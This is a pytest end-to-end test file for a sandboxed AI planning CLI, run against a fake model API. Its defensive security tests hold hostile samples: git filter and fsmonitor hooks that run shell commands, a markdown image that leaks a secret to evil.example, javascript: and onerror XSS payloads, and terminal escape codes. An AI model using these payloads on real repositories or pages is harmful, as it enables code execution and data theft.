"""`planrun plan` end to end: CliRunner, real containers, the SDK against the fake API."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, cast

import pytest
from click.testing import CliRunner, Result

from sandbox_runner.cli import cli
from tests.support.fake_messages_api import (
    FakeMessagesAPI,
    drop,
    error,
    hang,
    message,
    raw,
    text,
    tool_use,
)
from tests.support.plan_scripts import PerspectiveScript, writes_plan
from tests.unit.test_plan_loop import VALID_PLAN
from tests.unit.test_synthesis import RECOMMENDED_PLAN

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def repo(sample_repo: Path) -> Path:
    return sample_repo


@pytest.fixture(autouse=True)
def needs_docker(sandbox_image: str) -> None:
    """Every test here runs real sandboxes."""


def plan(*args: str) -> Result:
    return CliRunner().invoke(cli, ["plan", *args], catch_exceptions=False)


def report_of(result: Result) -> dict[str, Any]:
    return cast(dict[str, Any], json.loads(result.stdout))


def test_two_perspectives_in_parallel_with_json(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    api.script = PerspectiveScript(
        {
            "simplicity": writes_plan("simplicity", VALID_PLAN),
            "performance": writes_plan("performance", VALID_PLAN),
        }
    )
    out = tmp_path / "out"
    result = plan(
        "Add a flag",
        "--repo",
        str(repo),
        "--perspective",
        "simplicity",
        "--perspective",
        "performance",
        "--out",
        str(out),
        "--json",
        "--parallel",
        "2",
    )
    assert result.exit_code == 0, result.output
    report = report_of(result)
    assert report["schema_version"] == 2
    assert report["status"] == "ok" and report["exit_code"] == 0
    assert [p["perspective"] for p in report["plans"]] == ["simplicity", "performance"]
    assert all(p["valid"] for p in report["plans"])
    assert report["critical_files"]["shared_by_all"] == [
        "src/app.py",
        "src/util.py",
        "tests/test_app.py",
    ]
    assert (out / "simplicity.md").is_file() and (out / "performance.md").is_file()
    assert json.loads((out / "report.json").read_text()) == report
    assert (out / "report.md").read_text().startswith("# Plan report")


def test_two_perspectives_and_their_recommended_plan(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    api.script = PerspectiveScript(
        {
            "simplicity": writes_plan("simplicity", VALID_PLAN),
            "performance": writes_plan("performance", VALID_PLAN.replace("# Add", "# Speed up")),
            "recommended": [
                message(tool_use("Read", {"file_path": "src/util.py"})),
                *writes_plan("recommended", RECOMMENDED_PLAN)[1:],
            ],
        }
    )
    out = tmp_path / "out"
    arguments = ["x", "--repo", str(repo), "--out", str(out)]
    result = plan(*arguments, "--perspective", "simplicity", "--perspective", "performance")
    assert result.exit_code == 0, result.output
    assert f"Recommended plan: {out / 'recommended.md'}" in result.output
    report = json.loads((out / "report.json").read_text())
    recommended = report["recommended"]
    assert recommended["valid"] and recommended["plan_file"] == "recommended.md"
    assert recommended["sources"] == ["simplicity", "performance"]
    assert recommended["tool_calls"] == 2 and recommended["cost_usd"] > 0
    assert (out / "recommended.md").read_text().startswith("---\nid: ")
    first_synthesis_request = next(
        request.body
        for request in api.message_requests
        if "/plan/recommended.md" in json.dumps(request.body["system"])
    )
    task = json.dumps(first_synthesis_request["messages"][0])
    assert "# Add a --verbose flag" in task and "# Speed up a --verbose flag" in task
    assert "## Recommended plan" in (out / "report.md").read_text()
    html = (out / "report.html").read_text()
    assert html.index('id="recommended"') < html.index('id="plans"')
    assert "Add a --verbose flag (recommended)" in html
    off = plan(
        "x",
        "--repo",
        str(repo),
        "--out",
        str(tmp_path / "off"),
        "--no-synthesis",
        "--perspective",
        "simplicity",
        "--perspective",
        "performance",
    )
    assert off.exit_code == 0, off.output
    assert "no recommended plan: turned off by flag --no-synthesis" in off.output
    assert not (tmp_path / "off" / "recommended.md").exists()


def test_one_failing_perspective_does_not_stop_the_others(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    overloaded = error(529, "overloaded_error", "Overloaded")
    api.script = PerspectiveScript(
        {"simplicity": writes_plan("simplicity", VALID_PLAN), "performance": [overloaded] * 20}
    )
    result = plan(
        "Add a flag",
        "--repo",
        str(repo),
        "--perspective",
        "simplicity",
        "--perspective",
        "performance",
        "--out",
        str(tmp_path / "out"),
        "--json",
    )
    assert result.exit_code == 1
    report = report_of(result)
    by_name = {p["perspective"]: p for p in report["plans"]}
    assert by_name["simplicity"]["valid"]
    assert by_name["performance"]["status"] == "failed"
    assert "529" in by_name["performance"]["reason"]
    assert report["failures"][0]["perspective"] == "performance"
    assert (tmp_path / "out" / "simplicity.md").exists()


def test_invalid_plan_exits_1_and_says_why(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    broken = VALID_PLAN.replace("- tests/test_app.py - the tests of the flag\n", "")
    api.script = PerspectiveScript(
        {"plan": [message(text(broken)), message(text("Still two files."))]}
    )
    result = plan("Add a flag", "--repo", str(repo), "--out", str(tmp_path / "out"), "--json")
    assert result.exit_code == 1
    assert report_of(result)["status"] == "plan_invalid"
    [entry] = report_of(result)["plans"]
    assert entry["status"] == "complete" and not entry["valid"]
    assert any("3 to 5" in problem for problem in entry["problems"])


def test_turn_limit_marks_the_plan_incomplete(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    api.script = PerspectiveScript(
        {"plan": [message(tool_use("LS", {}))] * 2 + [message(text(VALID_PLAN))]}
    )
    result = plan(
        "x", "--repo", str(repo), "--out", str(tmp_path / "out"), "--json", "--max-turns", "3"
    )
    assert result.exit_code == 1
    [entry] = report_of(result)["plans"]
    assert entry["status"] == "incomplete"
    assert "turn limit of 3" in entry["reason"]
    # The last turn has no tools, and what it writes is kept.
    assert api.message_requests[-1].body["tool_choice"] == {"type": "none"}
    assert entry["plan_file"] == "plan.md" and entry["problems"] == []


def test_timeout_stops_a_slow_subagent(api: FakeMessagesAPI, repo: Path, tmp_path: Path) -> None:
    api.script = PerspectiveScript(
        {"plan": [message(tool_use("LS", {}))] * 20}, delays={"plan": 0.5}
    )
    started = time.monotonic()
    result = plan(
        "x", "--repo", str(repo), "--out", str(tmp_path / "out"), "--json", "--timeout", "2"
    )
    assert result.exit_code == 1
    [entry] = report_of(result)["plans"]
    assert entry["status"] == "incomplete" and "time limit" in entry["reason"]
    assert time.monotonic() - started < 30


def test_existing_plans_are_never_overwritten(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "plan.md").write_text("precious")
    result = plan("x", "--repo", str(repo), "--out", str(out))
    assert result.exit_code == 2
    assert "never overwrites" in result.output
    assert (out / "plan.md").read_text() == "precious"
    assert api.requests == []


def test_default_output_is_a_new_named_directory(
    api: FakeMessagesAPI, repo: Path, planrun_home: Path
) -> None:
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    first = plan("x", "--repo", str(repo), "--json")
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    second = plan("x", "--repo", str(repo), "--json")
    runs = sorted((planrun_home / "plans").iterdir())
    assert len(runs) == 2
    assert report_of(first)["run"] != report_of(second)["run"]
    assert all("-" in run.name for run in runs)


@pytest.mark.parametrize(
    "args, message_part",
    [
        (["--repo", "/nonexistent"], "does not exist"),
        (["--perspective", "x", "--parallel", "0"], "parallel"),
        (["--context", "/etc/hostname"], "outside the repository"),
        ([], "no requirements given"),
    ],
)
def test_usage_errors_exit_2(
    api: FakeMessagesAPI, repo: Path, args: list[str], message_part: str
) -> None:
    requirements = [] if message_part == "no requirements given" else ["x"]
    base = ["--repo", str(repo)] if "--repo" not in args else []
    result = plan(*requirements, *base, *args)
    assert result.exit_code == 2, result.output
    assert message_part in result.output
    assert "Traceback" not in result.output


def test_missing_api_key_is_a_usage_error(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN", "ANTHROPIC_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    result = plan("x", "--repo", str(repo))
    assert result.exit_code == 2
    assert "ANTHROPIC_API_KEY is not set" in result.output


def test_bad_project_config_names_file_and_key(api: FakeMessagesAPI, repo: Path) -> None:
    (repo / ".planrun").mkdir()
    (repo / ".planrun" / "config.yaml").write_text("parallel: four\n")
    result = plan("x", "--repo", str(repo))
    assert result.exit_code == 2
    assert "config.yaml" in result.output and "parallel" in result.output


def test_config_precedence_flag_over_project_over_user(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path, planrun_home: Path
) -> None:
    (planrun_home / "config.yaml").write_text("planning_model: claude-user-model\nmax_turns: 7\n")
    (repo / ".planrun").mkdir()
    (repo / ".planrun" / "config.yaml").write_text("planning_model: claude-project-model\n")
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "a"), "--json")
    # The repository is not trusted: its model is ignored, and said to be.
    assert api.message_requests[0].body["model"] == "claude-user-model"
    assert "asks for model 'claude-project-model'; ignored" in result.stderr
    (planrun_home / "config.yaml").write_text(
        f"planning_model: claude-user-model\nmax_turns: 7\ntrusted_projects: [{repo}]\n"
    )
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "t"), "--json")
    assert api.message_requests[-1].body["model"] == "claude-project-model"
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    result = plan(
        "x",
        "--repo",
        str(repo),
        "--out",
        str(tmp_path / "b"),
        "--json",
        "--model",
        "claude-flag-model",
    )
    assert result.exit_code == 0
    assert api.message_requests[-1].body["model"] == "claude-flag-model"


def test_project_template_replaces_the_sections(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    (repo / ".planrun").mkdir()
    template = "# Plan\n\n## Goal\n\n## Design\n\n## Rollout\n"
    (repo / ".planrun" / "plan.md").write_text(template)
    plan_text = (
        "# Flag\n\n## Goal\nA flag.\n\n## Design\nThread it.\n\n## Rollout\nShip it.\n\n"
        "### Critical Files for Implementation\n- src/app.py - flag\n- src/util.py - log\n"
        "- tests/test_app.py - tests\n"
    )
    api.script = PerspectiveScript({"plan": writes_plan("plan", plan_text)})
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "out"), "--json")
    assert result.exit_code == 0, result.output
    system = api.message_requests[0].body["system"][0]["text"]
    assert "## Rollout" in system and "## Test Plan" not in system
    assert (repo / ".planrun" / "plan.md").read_text() == template


def test_context_file_reaches_the_prompt(api: FakeMessagesAPI, repo: Path, tmp_path: Path) -> None:
    (repo / "NOTES.md").write_text("The flag must be called --verbose.\n")
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    result = plan(
        "x", "--repo", str(repo), "--context", str(repo / "NOTES.md"), "--out", str(tmp_path / "o")
    )
    assert result.exit_code == 0, result.output
    assert "must be called --verbose" in api.message_requests[0].body["system"][0]["text"]


def test_requirements_from_stdin_and_file(api: FakeMessagesAPI, repo: Path, tmp_path: Path) -> None:
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    result = CliRunner().invoke(
        cli,
        ["plan", "-", "--repo", str(repo), "--out", str(tmp_path / "a")],
        input="Plan from stdin\n",
    )
    assert result.exit_code == 0, result.output
    first_user = api.message_requests[0].body["messages"][0]["content"][0]["text"]
    assert "Plan from stdin" in first_user


def test_dropped_connections_are_retried(api: FakeMessagesAPI, repo: Path, tmp_path: Path) -> None:
    script = writes_plan("plan", VALID_PLAN)
    api.script = PerspectiveScript({"plan": [script[0], script[1], script[2]]})
    flaky = PerspectiveScript({"plan": script})
    calls = {"n": 0}

    def sometimes_drop(body: dict[str, Any]) -> Any:
        calls["n"] += 1
        return drop() if calls["n"] == 2 else flaky(body)

    api.script = sometimes_drop
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "o"), "--json")
    assert result.exit_code == 0, result.output


def test_ctrl_c_keeps_finished_plans_and_removes_containers(
    repo: Path, tmp_path: Path, docker_client: Any
) -> None:
    script = PerspectiveScript(
        {
            "fast": writes_plan("fast", VALID_PLAN),
            "slow": [message(tool_use("LS", {}))] * 5,
        },
        delays={"slow": 5.0},
    )
    out = tmp_path / "out"
    with FakeMessagesAPI(script) as server:
        env = dict(os.environ, ANTHROPIC_BASE_URL=server.base_url, ANTHROPIC_API_KEY="k")
        process = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "sandbox_runner",
                "plan",
                "x",
                "--repo",
                str(repo),
                "--out",
                str(out),
                "--perspective",
                "fast",
                "--perspective",
                "slow",
            ],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        deadline = time.monotonic() + 60
        while not (out / "fast.md").exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        time.sleep(1.0)
        process.send_signal(signal.SIGINT)
        _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130, stderr
    assert "Traceback" not in stderr
    assert f"go on with `planrun plans resume {out}`" in stderr
    assert (out / "fast.md").exists()
    report = json.loads((out / "report.json").read_text())
    statuses = {p["perspective"]: p["status"] for p in report["plans"]}
    assert statuses["fast"] == "complete" and statuses["slow"] != "complete"
    assert report["exit_code"] == 130
    leftovers = [
        c
        for c in docker_client.containers.list(all=True, filters={"label": "io.planrun.managed=1"})
        if c.labels.get("io.planrun.pid") == str(process.pid)
    ]
    assert leftovers == []


def test_workspace_changed_during_the_run_exits_3(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    def change_the_workspace() -> Any:
        (repo / "src" / "sneaky.py").write_text("# written from outside the sandbox\n")
        return message(tool_use("Write", {"file_path": "/plan/plan.md", "content": VALID_PLAN}))

    api.script = PerspectiveScript(
        {"plan": [message(tool_use("LS", {})), change_the_workspace, message(text("ok"))]}
    )
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "o"), "--json")
    assert result.exit_code == 3
    report = report_of(result)
    assert report["status"] == "workspace_changed"
    assert not report["workspace_unchanged"]
    # Named, and told apart from an escape: the sandboxes cannot write there.
    assert report["workspace_changed_paths"] == ["src/sneaky.py (added)"]
    assert "changed outside the sandbox" in report["workspace_problem"]
    timings = report["workspace_check_ms"]
    assert isinstance(timings["before_files"], int) and isinstance(timings["after_files"], int)


def test_make_demo_runs(tmp_path: Path) -> None:
    env = dict(os.environ, PLANRUN_HOME=str(tmp_path / "home"))
    result = subprocess.run(
        ["make", "-s", "demo"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=600
    )
    assert result.returncode == 0, result.stdout + result.stderr
    report_line = next(line for line in result.stdout.splitlines() if line.startswith("Report: "))
    report = json.loads(
        Path(report_line.removeprefix("Report: ")).with_name("report.json").read_text()
    )
    assert [p["perspective"] for p in report["plans"]] == ["simplicity", "performance"]
    assert all(p["valid"] for p in report["plans"])
    html_line = next(
        line for line in result.stdout.splitlines() if line.startswith("HTML report: ")
    )
    assert Path(html_line.removeprefix("HTML report: ")).is_file()
    recommended_line = next(
        line for line in result.stdout.splitlines() if line.startswith("Recommended plan: ")
    )
    assert Path(recommended_line.removeprefix("Recommended plan: ")).is_file()
    assert report["recommended"]["valid"]
    assert report["recommended"]["sources"] == ["simplicity", "performance"]


def test_git_never_runs_repository_programs_on_the_host(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "host-marker"
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-qm", "initial"], check=True)
    (repo / ".gitattributes").write_text("* filter=evil\n")
    subprocess.run(
        [*git, "config", "filter.evil.clean", f"sh -c 'id >> {marker}; cat'"], check=True
    )
    subprocess.run([*git, "config", "core.fsmonitor", f"sh -c 'id >> {marker}'"], check=True)
    os.utime(repo / "src" / "app.py", (0, 0))  # stat data no longer matches the index
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "out"), "--json")
    assert result.exit_code == 0, result.output
    assert not marker.exists()
    assert report_of(result)["workspace_unchanged"]


@pytest.mark.parametrize(
    "agent, message_part", [("general-purpose", "cannot plan"), ("Nope", "unknown agent 'Nope'")]
)
def test_only_read_only_agents_may_plan(
    api: FakeMessagesAPI, repo: Path, agent: str, message_part: str
) -> None:
    result = plan("x", "--repo", str(repo), "--agent", agent)
    assert result.exit_code == 2
    assert message_part in result.output
    assert api.requests == []


def test_a_repository_agent_file_cannot_give_plan_write(api: FakeMessagesAPI, repo: Path) -> None:
    """A repository may be a stranger's: its file's tools for a built-in are ignored,
    said in one line, and the run goes on with the built-in's tools (which write only
    the plan file)."""
    (repo / ".planrun" / "agents").mkdir(parents=True)
    (repo / ".planrun" / "agents" / "plan.md").write_text(
        "---\nname: Plan\ntools: Read, Write\n---\n"
    )
    result = plan("x", "--repo", str(repo))
    assert "plan.md" in result.output and "only ~/.planrun/agents may change them" in result.output
    assert result.exit_code != 2 and api.message_requests


def test_record_then_replay_without_the_api(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    api.script = PerspectiveScript(
        {
            "simplicity": writes_plan("simplicity", VALID_PLAN),
            "speed": writes_plan("speed", VALID_PLAN),
            "recommended": writes_plan("recommended", RECOMMENDED_PLAN),
        }
    )
    cassettes = tmp_path / "cassettes"
    recorded = plan(
        "x",
        "--repo",
        str(repo),
        "--perspective",
        "simplicity",
        "--perspective",
        "speed",
        "--out",
        str(tmp_path / "a"),
        "--record",
        str(cassettes),
        "--json",
    )
    assert recorded.exit_code == 0, recorded.output
    names = sorted(p.name for p in cassettes.iterdir())
    assert names == ["recommended.jsonl", "simplicity.jsonl", "speed.jsonl"]
    served = len(api.requests)
    for name in ("ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL"):
        monkeypatch.delenv(name)
    replayed = plan(
        "x",
        "--repo",
        str(repo),
        "--perspective",
        "simplicity",
        "--perspective",
        "speed",
        "--out",
        str(tmp_path / "b"),
        "--replay",
        str(cassettes),
        "--json",
    )
    assert replayed.exit_code == 0, replayed.output
    assert len(api.requests) == served
    first, second = report_of(recorded), report_of(replayed)
    assert [p["critical_files"] for p in first["plans"]] == [
        p["critical_files"] for p in second["plans"]
    ]
    assert first["recommended"]["valid"] and second["recommended"]["valid"]
    assert first["recommended"]["title"] == second["recommended"]["title"]
    (cassettes / "recommended.jsonl").unlink()
    older = plan(
        "x",
        "--repo",
        str(repo),
        "--out",
        str(tmp_path / "c"),
        "--replay",
        str(cassettes),
        "--perspective",
        "simplicity",
        "--perspective",
        "speed",
        "--json",
    )
    assert older.exit_code == 0, older.output
    assert report_of(older)["synthesis"] == {
        "state": "off",
        "note": f"--replay {cassettes} holds no recorded synthesis (recommended.jsonl)",
        "agent_override": None,
    }


def test_a_perspective_called_report_keeps_its_plan(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    api.script = PerspectiveScript({"report-2": writes_plan("report-2", VALID_PLAN)})
    out = tmp_path / "out"
    result = plan("x", "--repo", str(repo), "--perspective", "Report", "--out", str(out), "--json")
    assert result.exit_code == 0, result.output
    assert report_of(result)["plans"][0]["plan_file"] == "report-2.md"
    assert (out / "report-2.md").read_text().count("Critical Files") == 1


@pytest.mark.parametrize("how", ["dotdot", "symlink"])
def test_out_inside_the_repository_by_any_path_is_excluded(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path, how: str
) -> None:
    if how == "dotdot":
        out = repo / "src" / ".." / "plans"
    else:
        (tmp_path / "link").symlink_to(repo)
        out = tmp_path / "link" / "plans"
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    result = plan("x", "--repo", str(repo), "--out", str(out), "--json")
    assert result.exit_code == 0, result.output
    assert report_of(result)["workspace_unchanged"]
    assert not (repo / "plans" / ".sandbox").exists()
    assert (repo / "plans" / "plan.md").exists()


def test_usage_errors_claim_no_run_directory(
    api: FakeMessagesAPI, repo: Path, planrun_home: Path
) -> None:
    result = plan("x", "--repo", str(repo), "--replay", str(repo / "missing-cassette"))
    assert result.exit_code == 2 and "does not exist" in result.output
    assert not (planrun_home / "plans").exists() or not any((planrun_home / "plans").iterdir())


def test_out_cannot_be_the_repository(api: FakeMessagesAPI, repo: Path) -> None:
    result = plan("x", "--repo", str(repo), "--out", str(repo))
    assert result.exit_code == 2 and "the repository itself" in result.output


def test_an_answer_that_is_not_json_fails_the_plan_and_says_so(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    api.script = PerspectiveScript({"plan": [raw("<html>502 Bad Gateway</html>")]})
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1, result.output
    assert "[plan] FAILED: the API's answer is not valid JSON" in result.output
    assert "internal error" not in result.output
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    assert report["plans"][0]["reason"].startswith("the API's answer is not valid JSON")


def test_a_binary_cassette_fails_its_plan_with_a_failed_line(repo: Path, tmp_path: Path) -> None:
    cassettes = tmp_path / "cassettes"
    cassettes.mkdir()
    (cassettes / "security.jsonl").write_bytes(b"\x89PNG\r\n\x1a\n\x00\xff")
    args = ["--replay", str(cassettes), "--perspective", "security"]
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "out"), *args)
    assert result.exit_code == 1, result.output
    assert "[security] FAILED: cassette" in result.output
    assert "is not UTF-8 text" in result.output and "UnicodeDecodeError" not in result.output


def test_a_project_plan_agent_cannot_choose_the_model_and_is_named(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    agents = repo / ".planrun" / "agents"
    agents.mkdir(parents=True)
    (agents / "plan.md").write_text("---\nname: Plan\nmodel: opus\n---\nThe repository's prompt.\n")
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    out = tmp_path / "out"
    result = plan("x", "--repo", str(repo), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert api.message_requests[0].body["model"] == "claude-sonnet-4-6"
    assert f"{agents / 'plan.md'} asks for model 'opus'; ignored" in result.output
    named = f"Plan is overridden by {agents / 'plan.md'} (project)"
    assert f"planrun: agent {named}" in result.output  # the progress
    assert f"  agent: {named}" in result.output  # the summary
    assert json.loads((out / "report.json").read_text())["agent_override"] == named
    assert named in (out / "report.md").read_text()


def test_repository_links_to_host_files_are_not_read(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    host = tmp_path / "host-notes.md"
    host.write_text("## Host secret heading\n")
    (repo / ".planrun").mkdir()
    (repo / ".planrun" / "plan.md").symlink_to(host)
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    out = tmp_path / "out"
    result = plan("x", "--repo", str(repo), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "leads outside" in result.output and "using the default sections" in result.output
    system = api.message_requests[0].body["system"][0]["text"]
    assert "Host secret heading" not in system
    assert "Host secret heading" not in (out / "report.json").read_text()


def test_hostile_model_text_is_inert_in_the_report_and_the_terminal(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    hostile = VALID_PLAN.replace(
        "## Approach\n",
        "## Approach\n![](http://evil.example/?d=secret) [x](javascript:alert(1)) "
        "\x1b]0;owned\x07 <img src=x onerror=alert(1)>\n",
        1,
    )
    assert hostile != VALID_PLAN
    api.script = PerspectiveScript({"plan": writes_plan("plan", hostile)})
    out = tmp_path / "out"
    result = plan("x", "--repo", str(repo), "--out", str(out))
    assert "\x1b" not in result.output and "\x07" not in result.output
    markdown = (out / "report.md").read_text()
    assert "\x1b" not in markdown and "<img" not in markdown and "![" not in markdown
    assert "](javascript:" not in markdown


def test_a_git_status_that_fails_is_reported_not_called_unchanged(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    """With `git status` failing, the report said "unchanged"."""
    (repo / ".git").mkdir()
    (repo / ".git" / "HEAD").write_text("not a git repository\n")
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    out = tmp_path / "out"
    result = plan("x", "--repo", str(repo), "--out", str(out))
    report = json.loads((out / "report.json").read_text())
    assert report["workspace_check"] == "files_only"
    assert report["workspace_check_note"] == (
        "`git status` was not compared: it could not run before the run (in its sandbox)"
    )
    header = (out / "report.md").read_text().split("## Requirements")[0]
    assert "workspace unchanged" not in header and "not fully checked" in header
    assert "workspace not fully checked: `git status` was not compared" in result.output


def test_timeout_stops_a_hung_api(api: FakeMessagesAPI, repo: Path, tmp_path: Path) -> None:
    """A hung API blocked for up to 50 minutes; --timeout did not stop it."""
    api.script = lambda body: hang()
    started = time.monotonic()
    result = CliRunner().invoke(
        cli,
        ["plan", "x", "--repo", str(repo), "--out", str(tmp_path / "out"), "--timeout", "3"],
    )
    assert time.monotonic() - started < 20
    assert result.exit_code == 1, result.output
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    [entry] = report["plans"]
    assert entry["status"] == "incomplete"
    assert entry["reason"] == "time limit of 3 s reached while waiting for the model"
    assert "Traceback" not in result.output


def test_retries_are_labelled_with_the_perspective(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    overloaded = error(529, "overloaded_error", "Overloaded", retry_after=0.1)
    script = writes_plan("speed", VALID_PLAN)
    served: list[int] = []

    def first_overloaded(body: dict[str, Any]) -> Any:
        served.append(1)
        return overloaded if len(served) == 1 else PerspectiveScript({"speed": script})(body)

    api.script = first_overloaded
    result = CliRunner().invoke(
        cli,
        ["plan", "x", "--repo", str(repo), "--perspective", "speed", "--out", str(tmp_path / "o")],
    )
    assert result.exit_code == 0, result.output
    assert "[speed] turn 1 model API: 529 overloaded_error: Overloaded; retrying in 0.1 s" in (
        result.stderr
    )


def _planrun_process(server: FakeMessagesAPI, repo: Path, out: Path) -> subprocess.Popen[str]:
    env = dict(os.environ, ANTHROPIC_BASE_URL=server.base_url, ANTHROPIC_API_KEY="k", CI="true")
    command = [sys.executable, "-m", "sandbox_runner", "plan", "x", "--repo", str(repo)]
    command += ["--out", str(out), "--perspective", "fast", "--perspective", "hung"]
    return subprocess.Popen(
        command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def _wait_for(condition: Any, seconds: float = 60) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.05)


def _containers_of(docker_client: Any, pid: int) -> list[Any]:
    managed = docker_client.containers.list(all=True, filters={"label": "io.planrun.managed=1"})
    return [c for c in managed if c.labels.get("io.planrun.pid") == str(pid)]


@pytest.mark.parametrize("signals", [[signal.SIGINT], [signal.SIGTERM], [signal.SIGINT] * 2])
def test_a_signal_stops_a_hung_run_at_once_and_keeps_the_report(
    repo: Path, tmp_path: Path, docker_client: Any, signals: list[signal.Signals]
) -> None:
    """Ctrl-C took 15.5 s, and a second Ctrl-C lost the report."""
    script = PerspectiveScript({"fast": writes_plan("fast", VALID_PLAN), "hung": [hang()]})
    out = tmp_path / "out"
    with FakeMessagesAPI(script) as server:
        process = _planrun_process(server, repo, out)
        _wait_for(lambda: (out / "fast.md").exists() and "hung" in script.seen)
        _wait_for(lambda: len(_containers_of(docker_client, process.pid)) >= 1)
        started = time.monotonic()
        for number, signum in enumerate(signals):
            if number:
                time.sleep(0.2)
            process.send_signal(signum)
        _, stderr = process.communicate(timeout=60)
        exit_seconds = time.monotonic() - started
    print(f"exit {exit_seconds:.2f} s after {[s.name for s in signals]}")
    assert process.returncode == 130, stderr
    assert exit_seconds < 6, stderr  # the 2 s target is measured by `make bench`
    assert "Traceback" not in stderr
    assert "stopping…" in stderr
    assert _containers_of(docker_client, process.pid) == []
    report = json.loads((out / "report.json").read_text())
    assert report["status"] == "interrupted" and report["exit_code"] == 130
    statuses = {p["perspective"]: p["status"] for p in report["plans"]}
    assert statuses == {"fast": "complete", "hung": "incomplete"}
    assert (out / "report.md").exists() and (out / "fast.md").exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox runs as another uid only as root")
def test_a_repository_the_sandbox_cannot_read_is_refused_before_the_run(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    """As root, mode-0600 files were unreadable inside, yet exit 0."""
    for path in repo.rglob("*"):
        path.chmod(0o600 if path.is_file() else 0o700)
    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "out"))
    assert result.exit_code == 2, result.output
    assert "not readable by the sandbox user (uid 10001)" in result.output
    assert "Traceback" not in result.output and api.requests == []


@pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox runs as another uid only as root")
def test_as_root_a_repository_of_owner_only_files_is_read_as_its_owner(
    api: FakeMessagesAPI, repo: Path, tmp_path: Path
) -> None:
    for path in [repo, *repo.rglob("*")]:
        os.chown(path, 4242, 4242)
        path.chmod(0o600 if path.is_file() else 0o700)
    api.script = PerspectiveScript(
        {
            "plan": [
                message(tool_use("Read", {"file_path": "src/app.py"})),
                message(text(VALID_PLAN)),
            ]
        }
    )
    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "out"), "--json")
    assert result.exit_code == 0, result.output
    read_result = api.message_requests[1].body["messages"][-1]["content"][0]
    assert "return 42" in read_result["content"] and not read_result.get("is_error")
